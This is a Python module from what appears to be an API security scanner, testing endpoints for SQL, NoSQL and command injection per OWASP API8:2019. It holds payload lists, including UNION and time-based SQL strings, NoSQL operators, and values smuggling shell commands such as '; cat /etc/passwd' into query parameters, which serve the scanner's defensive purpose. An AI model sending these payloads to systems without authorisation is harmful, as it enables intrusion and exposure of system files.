"""Injection tester (API8:2019)."""

import asyncio
import logging
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlsplit

from apiprobe.tools.http import ProbeExecutor

from ..base import ExecutorFactory, SecurityTester, is_cancelled
from ..models import Finding, Severity, TargetConfig, TestResult, VulnerabilityType
from .common import (
    BROWSER_USER_AGENT,
    CHEAT_SHEETS,
    OWASP_API_2019,
    contains_any,
    probe_once,
)

logger = logging.getLogger(__name__)

QUERY_PARAMETERIZATION_CHEAT_SHEET = (
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html"
)


@dataclass(frozen=True)
class InjectionFamily:
    """Payloads, fallback parameter names and error signatures for one injection class."""

    key: str
    name: str
    payloads: tuple[str, ...]
    parameters: tuple[str, ...]
    signatures: tuple[str, ...]
    severity: Severity
    cvss: float
    cwe: str
    remediation: str
    references: tuple[str, ...]


SQL_INJECTION = InjectionFamily(
    key="sql",
    name="SQL Injection",
    payloads=(
        "' OR '1'='1",
        "' OR '1'='1' --",
        "' OR 1=1 --",
        "' OR 1=1#",
        "' OR 1=1/*",
        "') OR ('1'='1",
        "')) OR (('1'='1",
        "' UNION SELECT NULL, NULL, NULL, NULL, NULL --",
        "' UNION SELECT @@version, NULL, NULL, NULL, NULL --",
        "' AND SLEEP(5) --",
        "' AND IF(1=1, SLEEP(5), 0) --",
        "' OR EXISTS(SELECT * FROM users WHERE username='admin') --",
    ),
    parameters=(
        "id",
        "user_id",
        "username",
        "email",
        "search",
        "query",
        "q",
        "filter",
        "sort",
        "order",
        "page",
        "limit",
    ),
    signatures=(
        "SQL syntax",
        "mysql_fetch_array",
        "mysql_fetch_assoc",
        "mysql_num_rows",
        "mysql_query",
        "pg_query",
        "sqlite_query",
        "ORA-",
        "Oracle error",
        "Microsoft SQL Server",
        "ODBC Driver",
        "DB2 SQL error",
        "SQLite error",
        "Syntax error",
        "Unclosed quotation mark",
        "unterminated quoted string",
        "You have an error in your SQL syntax",
        "Warning: mysql_",
        "Warning: pg_",
        "Warning: sqlite_",
        "Warning: oci_",
    ),
    severity=Severity.CRITICAL,
    cvss=9.8,
    cwe="CWE-89",
    remediation=(
        "Use parameterized queries or prepared statements. Validate and sanitize all user "
        "inputs. Implement proper error handling to avoid exposing database errors."
    ),
    references=(
        f"{OWASP_API_2019}/0xa8-injection/",
        QUERY_PARAMETERIZATION_CHEAT_SHEET,
    ),
)

NOSQL_INJECTION = InjectionFamily(
    key="nosql",
    name="NoSQL Injection",
    payloads=(
        '{"$gt": ""}',
        '{"$ne": null}',
        '{"$exists": true}',
        '{"$in": [null, ""]}',
        '{"$regex": ".*"}',
        '{"$where": "this.password.match(/.*/)"}',
    ),
    parameters=("id", "_id", "user_id", "username", "email", "query", "filter"),
    signatures=(
        "MongoError",
        "MongoServerError",
        "CastError",
        "BSON",
        "ObjectId",
        "Mongoose",
        "CouchDB",
        "DynamoDB",
        "uncaught exception",
        "cannot use $",
        "invalid operator",
        "unknown operator",
    ),
    severity=Severity.CRITICAL,
    cvss=9.0,
    cwe="CWE-943",
    remediation=(
        "Validate and sanitize all user inputs. Use query builders or ODM/ORM libraries. "
        "Implement proper error handling to avoid exposing database errors."
    ),
    references=(
        f"{OWASP_API_2019}/0xa8-injection/",
        QUERY_PARAMETERIZATION_CHEAT_SHEET,
    ),
)

COMMAND_INJECTION = InjectionFamily(
    key="command",
    name="Command Injection",
    payloads=(
        "; ls -la",
        "& ls -la",
        "&& ls -la",
        "| ls -la",
        "|| ls -la",
        "` ls -la `",
        "$(ls -la)",
        "; cat /etc/passwd",
        "; id",
        "; uname -a",
    ),
    parameters=(
        "command",
        "cmd",
        "exec",
        "run",
        "shell",
        "script",
        "ping",
        "host",
        "ip",
        "domain",
        "url",
        "file",
        "path",
        "name",
    ),
    signatures=(
        "root:x:",
        "bin:x:",
        "daemon:x:",
        "nobody:x:",
        "drwxr-xr-x",
        "drwxrwxr-x",
        "-rw-r--r--",
        "uid=",
        "gid=",
        "groups=",
        "icmp_seq=",
        "GNU/Linux",
        "Darwin Kernel",
    ),
    severity=Severity.CRITICAL,
    cvss=9.8,
    cwe="CWE-77",
    remediation=(
        "Avoid passing user input to system commands. If unavoidable, use an allowlist of "
        "permitted values and APIs that do not invoke a shell."
    ),
    references=(
        f"{OWASP_API_2019}/0xa8-injection/",
        f"{CHEAT_SHEETS}/OS_Command_Injection_Defense_Cheat_Sheet.html",
    ),
)

INJECTION_FAMILIES = (SQL_INJECTION, NOSQL_INJECTION, COMMAND_INJECTION)


def query_parameter_names(endpoint: str) -> list[str]:
    """Names of the query parameters already present on *endpoint*, in order."""
    names: list[str] = []
    for key, _ in parse_qsl(urlsplit(endpoint).query, keep_blank_values=True):
        if key not in names:
            names.append(key)
    return names


class InjectionTester(SecurityTester):
    """Send injection payloads through query parameters and watch for error signatures."""

    name = "Injection"
    vuln_type = VulnerabilityType.INJECTION
    description = (
        "Tests for API endpoints that are vulnerable to injection attacks, where untrusted data "
        "is sent to an interpreter as part of a command or query."
    )

    def __init__(
        self,
        executor_factory: ExecutorFactory | None = None,
        families: tuple[InjectionFamily, ...] = INJECTION_FAMILIES,
    ):
        super().__init__(executor_factory)
        self.families = families

    async def run(
        self,
        executor: ProbeExecutor,
        target: TargetConfig,
        result: TestResult,
        cancel_event: asyncio.Event | None,
    ) -> None:
        for endpoint in target.all_endpoints():
            existing = query_parameter_names(endpoint)
            for family in self.families:
                for parameter in existing or family.parameters:
                    if is_cancelled(cancel_event):
                        return
                    finding = await self._probe_parameter(
                        executor, target, endpoint, family, parameter, cancel_event
                    )
                    if finding is not None:
                        result.add(finding)

    async def _probe_parameter(
        self,
        executor: ProbeExecutor,
        target: TargetConfig,
        endpoint: str,
        family: InjectionFamily,
        parameter: str,
        cancel_event: asyncio.Event | None,
    ) -> Finding | None:
        """Try each payload until one triggers a signature; at most one finding."""
        base = target.request(endpoint, headers={"User-Agent": BROWSER_USER_AGENT})
        for payload in family.payloads:
            if is_cancelled(cancel_event):
                return None
            request = base.with_query({parameter: payload})
            response = await probe_once(executor, request)
            if response is None:
                continue
            signature = contains_any(response.text, family.signatures)
            if signature is None:
                continue
            logger.info("%s signature %r via %s on %s", family.name, signature, parameter, endpoint)
            return Finding(
                type=VulnerabilityType.INJECTION,
                name=family.name,
                description=f"The API endpoint is vulnerable to {family.name} attacks.",
                severity=family.severity,
                request=request,
                response=response,
                evidence=(
                    f"{family.name} payload '{payload}' in parameter '{parameter}' produced "
                    f"'{signature}' in the response"
                ),
                remediation=family.remediation,
                cvss=family.cvss,
                cwe=family.cwe,
                references=family.references,
            )
        return None
